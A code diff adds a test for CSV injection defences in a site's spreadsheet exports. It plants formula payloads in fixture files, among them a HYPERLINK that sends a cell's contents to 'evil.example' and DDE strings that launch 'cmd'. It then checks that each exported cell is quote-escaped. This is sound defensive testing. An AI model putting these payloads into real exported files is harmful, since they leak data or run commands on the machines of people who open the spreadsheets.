@@ -702,3 +702,46 @@ def test_exports_of_an_empty_timeline_are_valid_and_dated_deterministically(tmp_
     assert json.loads(files["timelinejs.json"])["events"] == []
     write_export_files(Timeline([]), site, str(tmp_path / "b"), cache)
     assert written(tmp_path / "b") == files
+
+
+FORMULAS = {
+    "entries/2024/2024-04-16-announcement.md": (
+        "Title: The government announces a widget safety rule",
+        'Title: =HYPERLINK("https://evil.example/?"&A1,"Click")'),
+    "people/jane-widget.md": ("Name: Jane Widget", "Name: @SUM(1+1)*cmd|' /C calc'!A0"),
+    "questions/penalties.md": (
+        "Title: Should selling an unsafe widget carry a prison sentence?", "Title: -2+3+cmd|x"),
+    "amendments/wsb-nc1.md": ("Title: Safety label on widgets", "Title: +1+1"),
+    "divisions/2024-05-15-commons-nc1.md": (
+        "Question: That new clause 1 be read a second time", "Question: \uff1d1+1"),
+    "versions/wsb-nc1-report.md": (
+        "Title: New clause 1, as tabled for report stage", "Title: =1+1"),
+}
+
+
+def test_no_csv_cell_starts_a_spreadsheet_formula(fixture_site, tmp_path):
+    """OWASP's CSV injection rule, in all six CSV files: a cell that starts with
+    = + - @ (or a tab, CR, NUL, or a full-width sign) starts with a quote."""
+    for name, (old, new) in FORMULAS.items():
+        path = fixture_site / name
+        text = path.read_text(encoding="utf-8")
+        assert old in text
+        path.write_text(text.replace(old, new), encoding="utf-8")
+    out = build(fixture_site, tmp_path / "out")
+    cells = {}
+    for name in ("timeline.csv", *(f"{kind}.csv" for kind in RECORD_COLUMNS)):
+        _, rows = read_csv(out / name)
+        for row in rows:
+            for column, value in row.items():
+                assert not value.startswith(
+                    ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+                ), (name, column, value)
+                cells.setdefault(name, set()).add(value)
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells["timeline.csv"]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells["people.csv"]
+    assert "'-2+3+cmd|x" in cells["questions.csv"]
+    assert "'+1+1" in cells["amendments.csv"]
+    assert "'\uff1d1+1" in cells["divisions.csv"]
+    assert "'=1+1" in cells["versions.csv"]
+    # The JSON keeps the text as written: only the spreadsheet files are guarded.
+    assert '"title": "=1+1"' in (out / "timeline.json").read_text(encoding="utf-8")
